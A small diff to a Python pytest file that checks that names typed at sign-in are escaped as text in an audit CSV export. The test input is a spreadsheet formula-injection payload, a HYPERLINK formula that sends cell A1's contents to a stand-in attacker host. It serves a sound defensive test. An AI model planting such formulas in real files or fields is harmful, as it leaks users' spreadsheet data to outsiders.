@@ -8,6 +8,7 @@ import pandas as pd
 import pytest
 
 from jobs.services.csv_safe import escape_csv_cells
+from store import sign_in as store_sign_in
 from store import users
 from store.audit import read_audit
 
@@ -40,7 +41,7 @@ def test_a_name_typed_at_sign_in_reaches_the_audit_csv_as_text(store):
 
     attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     with pytest.raises(users.SignInError):
-        users.sign_in(attack, "wrong password", path=store)
+        store_sign_in.sign_in(attack, "wrong password", path=store)
     exported = pd.read_csv(io.StringIO(audit_csv(read_audit(path=store))))
     assert set(exported["Who"]) == {"'" + attack}
 
